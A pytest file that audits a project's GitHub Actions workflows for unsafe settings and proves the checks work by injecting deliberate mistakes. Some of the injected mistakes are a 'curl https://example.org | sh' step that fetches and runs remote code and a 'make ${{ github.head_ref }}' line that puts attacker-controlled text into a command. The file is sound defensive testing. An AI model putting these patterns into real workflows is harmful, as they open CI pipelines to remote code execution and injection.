"""Workflows run code that nobody can exchange, may do no more than they must, and end in time."""

import re
import stat
from functools import partial

import pytest
import yaml

from built_book import ROOT

FOLDER = ROOT / ".github" / "workflows"
WORKFLOWS = sorted(path.name for path in FOLDER.glob("*.y*ml"))
PINNED = re.compile(r"uses: [\w./-]+@[0-9a-f]{40} +# v\d+(\.\d+)*$")
TARGETS = set(re.findall(r"^([a-z-]+):", (ROOT / "Makefile").read_text(encoding="utf-8"), re.M))
STEP = re.compile(
    r"make (?P<targets>[a-z -]+)$|(?:bash )?(?P<script>\.ci/\w+)$"
    r"|sudo apt-get |mv _build/|cd _build && zip |gh release "
)
WRITES = {"deploy": {"pages", "id-token"}, "release": {"contents"}}  # by what a job is called
MINUTES = {("test.yml", "test"): 90, ("publish.yml", "build"): 40}  # at least


def faults(name, text):
    """Say what is wrong with a workflow."""
    flow = yaml.safe_load(text)
    uses = re.findall(r"(?<!\w)uses:.*", text)
    found = [f"not pinned by commit and version: {line}" for line in uses if not PINNED.match(line)]
    if "pull_request_target" in flow[True]:  # YAML takes `on` for a truth
        found.append("strangers' changes would run with the repository's rights")
    allowed = flow.get("permissions")
    if allowed != {} and allowed != {"contents": "read"}:
        found.append(f"what every job may do: {allowed}")
    if "concurrency" not in flow:
        found.append("runs side by side")
    for job, told in flow["jobs"].items():
        found += (f"job {job}: {fault}" for fault in job_faults(name, job, told))
    return found


def job_faults(name, job, told):
    minutes = told.get("timeout-minutes", 0)
    if not MINUTES.get((name, job), 1) <= minutes <= 120:
        yield f"ends after {minutes} minutes"
    allowed = told.get("permissions", {})
    writes = {what for what, how in allowed.items() if how == "write"} if allowed else set()
    if not isinstance(allowed, dict) or not writes <= WRITES.get(job, set()):
        yield f"may {allowed}"
    if "env" in told or "secrets" in str(told):
        yield "has secrets, or an environment for all its steps"
    for step in told["steps"]:
        yield from step_faults(step, writes)


def step_faults(step, writes):
    clones = step.get("uses", "").startswith("actions/checkout@")
    if clones and step.get("with", {}).get("persist-credentials") is not False:
        yield "leaves the token in the clone"
    if "github.token" in str(step) and not writes:
        yield "has the token and nothing to write with it"
    if "${{" in step.get("run", ""):
        yield "puts words from outside into a command"
    for line in re.sub(r"\\?\n +", " ", step.get("run", "").strip()).splitlines():
        command = STEP.match(line)
        if not command:
            yield f"runs what is not known here: {line}"
        elif not {*(command["targets"] or "").split()} <= TARGETS:
            yield f"makes what the Makefile has not: {line}"
        elif command["script"] and not (ROOT / command["script"]).is_file():
            yield f"runs what is not there: {line}"


@pytest.mark.parametrize("name", WORKFLOWS)
def test_the_workflow_is_safe(name):
    assert not faults(name, (FOLDER / name).read_text(encoding="utf-8"))


def test_the_workflows_are_there():
    assert {"audit.yml", "publish.yml", "test.yml"} <= set(WORKFLOWS)
    assert (ROOT / ".ci" / "run").stat().st_mode & stat.S_IXUSR


def test_one_action_is_pinned_at_one_commit():
    pins = {}
    for name in WORKFLOWS:
        text = (FOLDER / name).read_text(encoding="utf-8")
        for action, pin in re.findall(r"uses: ([\w./-]+)@(.+)", text):
            pins.setdefault(action, set()).add(pin)
    assert {action: pin for action, pin in pins.items() if len(pin) > 1} == {}


def test_dependabot_looks_at_actions_and_at_every_lock():
    told = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text(encoding="utf-8"))
    found = {entry["package-ecosystem"]: entry for entry in told["updates"]}
    assert found.keys() == {"github-actions", "pip"}
    for folder in found["pip"]["directories"]:
        assert (ROOT / folder.strip("/") / "requirements.txt").is_file()
    locks = {path.parent for path in ROOT.glob("*/requirements.txt")} | {ROOT}
    assert len(found["pip"]["directories"]) == len(locks)


change = partial(re.compile, flags=re.M)
MISTAKES = {
    "a tag": (change(r"(uses: actions/checkout)@.*"), r"\1@v6"),
    "a short commit": (change(r"(uses: actions/checkout@.{12}).*"), r"\1 # v6.0.2"),
    "no version": (change(r"(uses: actions/checkout@[0-9a-f]{40}).*"), r"\1"),
    "a branch": (change(r"(uses: actions/setup-python)@.*"), r"\1@main # v6.2.0"),
    "all rights": (change(r"^permissions: \{\}"), "permissions: write-all"),
    "rights unsaid": (change(r"^permissions: \{\}\n"), ""),
    "rights to write": (change(r"contents: read"), "contents: write"),
    "no end": (change(r" +timeout-minutes: .*\n"), ""),
    "an end too soon": (change(r"timeout-minutes: 90"), "timeout-minutes: 40"),
    "credentials": (change(r"persist-credentials: false"), "persist-credentials: true"),
    "strangers": (change(r"^  pull_request:"), "  pull_request_target:"),
    "a command from outside": (change(r"run: bash .ci/run"), "run: make ${{ github.head_ref }}"),
    "no such target": (change(r"run: bash .ci/run"), "run: make everything"),
    "no such script": (change(r"run: bash .ci/run"), "run: bash .ci/walk"),
    "code from a host": (change(r"run: bash .ci/run"), "run: curl https://example.org | sh"),
    "a token": (change(r"(run: bash .ci/run)"), r"\1\n        env: {T: '${{ github.token }}'}"),
    "a secret": (change(r"(run: bash .ci/run)"), r"\1\n        env: {T: '${{ secrets.KEY }}'}"),
}


@pytest.mark.parametrize("mistake", MISTAKES)
def test_a_mistake_is_noticed(mistake):
    text = (FOLDER / "test.yml").read_text(encoding="utf-8")
    pattern, after = MISTAKES[mistake]
    changed, count = pattern.subn(after, text, count=1)
    assert count == 1
    assert faults("test.yml", changed)
